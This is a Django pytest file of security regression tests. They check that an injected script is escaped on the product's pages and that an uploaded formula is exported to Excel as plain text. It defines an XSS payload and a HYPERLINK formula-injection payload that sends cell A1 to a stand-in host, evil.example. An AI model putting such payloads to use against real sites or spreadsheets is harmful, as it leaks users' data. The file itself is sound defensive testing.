"""Text an attacker controls (a name typed in the editor, a cell of an upload) is shown as text:
escaped in every page and report, and written to Excel as a string, never a formula.

Both held when the product was attacked (issue 9); these tests keep them held."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_a_script_in_a_name_is_escaped_on_every_page(tenant, login) -> None:
    from coxswain.web.insights import services

    c = login(tenant.manager)
    r = c.post(reverse("strategy:new", args=["values"]), {"id": "sneaky", "name": SCRIPT})
    assert r.status_code in (200, 302)
    services.start_analysis(org=tenant.org, user=tenant.manager.user)
    pages = [
        reverse("strategy:overview"),
        reverse("strategy:map"),
        reverse("strategy:cascade"),
        reverse("insights:dashboard"),
        reverse("insights:report", args=["html"]),
    ]
    shown = 0
    for url in pages:
        body = c.get(url).content.decode()
        assert SCRIPT not in body, url
        shown += "&lt;script&gt;" in body
    assert shown, "the value's name should be shown (escaped) on at least one page"


def test_a_formula_in_a_cell_is_downloaded_as_text(tenant, login) -> None:
    import openpyxl

    c = login(tenant.owner)
    r = c.post(reverse("strategy:person_new"), {"id": "formula", "role": FORMULA})
    assert r.status_code in (200, 302)
    response = c.get(reverse("insights:download", args=["xlsx"]))
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert any(FORMULA in str(cell.value) for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)
